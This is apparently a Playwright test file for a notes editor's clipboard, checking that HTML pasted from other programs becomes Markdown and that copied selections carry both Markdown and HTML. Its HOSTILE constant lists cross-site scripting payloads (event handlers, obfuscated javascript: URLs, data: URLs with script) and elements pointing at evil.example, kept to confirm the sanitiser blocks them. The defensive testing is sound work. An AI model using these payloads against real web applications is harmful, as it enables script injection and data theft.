"""Tests of the clipboard of a note's text: documents become Markdown, and Markdown is copied as HTML too."""

import os

from playwright.sync_api import expect

from support.instance import CHECKOUT
from support.notes_editor import EditorCase

SOURCES = os.path.join(CHECKOUT, "Tests/Web/pasting")
PASTE = """(element, types) => {
    const clipboardData = new DataTransfer();
    for (const [type, text] of Object.entries(types)) clipboardData.setData(type, text);
    const form = { clipboardData, bubbles: true, cancelable: true, composed: true };
    element.dispatchEvent(new ClipboardEvent("paste", form));
}"""
# Returns the parts of the page that a notice covers.
COVERED = """() => {
    const notice = document.querySelector(".notice-box").getBoundingClientRect();
    return [".mark-bar", ".note-body", ".note-list-top > .primary"].filter((part) => {
        const box = document.querySelector(part).getBoundingClientRect();
        return box.top < notice.bottom && notice.top < box.bottom && box.left < notice.right && notice.left < box.right;
    });
}"""
# Whatever of this ran, was fetched or was reported as a violation of the policy would fail the test.
HOSTILE = """
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css";</style>
<script>alert(1)</script><svg onload="alert(2)"><script>alert(3)</script>
<image href="https://evil.example/c.png" /></svg>
<p onclick="alert(4)" style="color: red; background: url(https://evil.example/d.png)"ONMOUSEOVER=alert(5)>
<img src="x" onerror='alert(6)'>
<img src="data:image/svg+xml,<svg onload=alert(7)>" alt="no"><b/onfocus=alert(8)>bold</b>
<a href="javascript:alert(9)">script</a> <a href=" java&#10;script:alert(10)">again</a>
<a href="vbscript:x">old</a> <a href="data:text/html,<script>alert(11)</script>">data</a> <a href="page">web</a>
<iframe src="https://evil.example/e"></iframe><object data="https://evil.example/f"></object>
<form action="https://evil.example/g"><input name="q" value="typed" autofocus onfocus="alert(12)"><button>Send</button>
</form><video src="https://evil.example/h" poster="https://evil.example/i"></video><!-- <b>hidden</b> -->
<template><p>hidden</p></template><math><mtext><img src=x onerror=alert(13)></mtext></math>
<table background="https://evil.example/j"><tr><td colspan=99999999 rowspan=99999999>cell<td>two <tr><td>three
<p>&lt;img src=x onerror=alert(14)> <ul><li>unclosed <b>item<li a="b
"""
HOSTILE_TEXT = """![](https://evil.example/x) **bold** script again old data [web](https://evil.example/page)

cell{0}
two{0}
three

<img src=x onerror=alert(14)>

- unclosed **item**""".replace("{0}", "  ")


class NotesClipboardTests(EditorCase):
    def paste(self, editor, html, plain="plain", **more):
        editor.body().evaluate(PASTE, {"text/plain": plain, "text/html": html, **more})

    def notices(self, editor):
        return editor.page.locator(".notices .notice-box")

    def test_documents_of_other_programs_become_markdown(self):
        """documents of twelve programs are pasted as Markdown, by both parsers of browsers; hostile ones do no harm"""
        editor = self.editor("")
        editor.body().click()
        names = sorted({name.rsplit(".", 1)[0] for name in os.listdir(SOURCES)})
        for parser, chosen in (("Document.parseHTML", names), ("DOMParser", ["google-docs", "word"])):
            if parser == "DOMParser":
                editor.page.evaluate("delete Document.parseHTML")
            for name in chosen:
                with self.subTest(f"{name} by {parser}"):
                    source, expected = (self.source(f"{name}.{kind}") for kind in ("html", "md"))
                    self.replace_all(editor, source)
                    self.awaits(editor, expected.removesuffix("\n"))
            self.replace_all(editor, HOSTILE)
            self.awaits(editor, HOSTILE_TEXT)
        self.replace_all(editor, "<div><p><b><i><ul><li><table><tr><td>" * 130_000, "five megabytes")
        self.awaits(editor, "five megabytes")
        expect(self.notices(editor).last).to_contain_text("Pasted as plain text: too long")

    def test_a_document_is_pasted_where_the_caret_is(self):
        """a paste is one step, fits its place, and can become plain text until it is changed"""
        editor = self.editor("Notes: \n\n- [ ] \n\n```\ncode\n```\n\nread this\n")
        press = editor.page.keyboard.press
        plain_text = self.notices(editor).get_by_role("button", name="Paste as plain text").last

        editor.caret_at_end_of("Notes:")
        self.paste(editor, "<p>a <b>bold</b> word</p>", "a bold word")
        editor.type("!")
        expect(self.notices(editor).last).to_contain_text("Pasted with formatting")
        size = editor.page.viewport_size
        for width in (390, 768):
            editor.page.set_viewport_size({**size, "width": width})
            expect(editor.page.locator(".mark-bar")).to_be_visible()
            self.assertEqual(editor.page.evaluate(COVERED), [], f"at {width} px")
        editor.page.set_viewport_size(size)
        body = "Notes: a **bold** word!\n\n- [ ] \n\n```\ncode\n```\n\nread this\n"
        self.awaits(editor, body)
        plain_text.click()
        body = body.replace("**bold**", "bold")
        self.awaits(editor, body)
        press("Control+z")
        body = body.replace("bold", "**bold**")
        self.awaits(editor, body)

        # A list goes on with an empty item, and begins behind words.
        editor.caret_at_end_of("- [ ]")
        self.paste(editor, "<ul><li>one<ul><li>two</li></ul></li></ul>")
        body = body.replace("- [ ] ", "- one\n  - two")
        self.awaits(editor, body)
        editor.caret_at_end_of("two")
        self.paste(editor, "<ol><li>three</li></ol><p>after</p>")
        body = body.replace("  - two", "  - two\n  1. three\n\n  after")
        self.awaits(editor, body)
        editor.caret_at_end_of("Notes:")
        self.paste(editor, "<h2>Title</h2><p>words</p>")
        body = body.replace("word!", "word!\n\n## Title\n\nwords")
        self.awaits(editor, body)
        editor.type("+")
        press("Backspace")
        press("Backspace")
        body = body.replace("\nwords", "\nword")
        self.awaits(editor, body)
        plain_text.click()
        expect(self.notices(editor).last).to_contain_text("Pasted text already changed")
        expect(self.notices(editor).last).to_contain_class("failure")

        # Code takes plain text, and so does a paste without HTML. The program's mark is that of its source.
        editor.caret_at_end_of("code")
        self.paste(editor, "<b>x</b>", " **y**")
        body = body.replace("\ncode", "\ncode **y**")
        self.awaits(editor, body)
        editor.caret_at_end_of("read this")
        self.paste(editor, "<b>x</b>", " *z*", **{"vscode-editor-data": "{}"})
        body = body.replace("read this", "read this *z*")
        self.awaits(editor, body)
        press("Home")
        press("Control+Shift+ArrowRight")
        self.paste(editor, "<a href='https://example.org/a'>A page</a>", "https://example.org/a")
        body = body.replace("read", "[read](https://example.org/a)")
        self.awaits(editor, body)
        press("Control+z")
        body = body.replace("[read](https://example.org/a)", "read")
        self.awaits(editor, body)
        self.paste(editor, "", "www.example.org")
        self.awaits(editor, body.replace("read", "[read](http://www.example.org)"))

    def test_a_selection_is_copied_as_markdown_and_html(self):
        """a cut selection is Markdown for text fields and HTML for other programs, and comes back as it was"""
        text = "# Plan\n\n- [x] *one*\n- [ ] two, [a link](https://example.org/)"
        editor = self.editor(text)
        editor.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        editor.body().click()
        editor.page.keyboard.press("Control+a")
        editor.page.keyboard.press("Control+x")
        self.awaits(editor, "")
        copied = editor.page.evaluate("""async () => {
            const [item] = await navigator.clipboard.read();
            const read = async (type) => (await item.getType(type)).text();
            return { plain: await read("text/plain"), html: await read("text/html") };
        }""")
        self.assertEqual(copied["plain"], text)
        for part in ("Plan</h1>", "<em>one</em>", '<a href="https://example.org/"', 'type="checkbox"'):
            self.assertIn(part, copied["html"])
        editor.page.keyboard.press("Control+v")
        editor.page.keyboard.press("Enter")
        self.awaits(editor, f"{text}\n- [ ] ")
        expect(self.notices(editor)).to_have_count(0)

    def replace_all(self, editor, html, plain="plain"):
        editor.page.keyboard.press("Control+a")
        self.paste(editor, html, plain)

    @staticmethod
    def source(name):
        with open(os.path.join(SOURCES, name), encoding="utf-8") as file:
            return file.read()
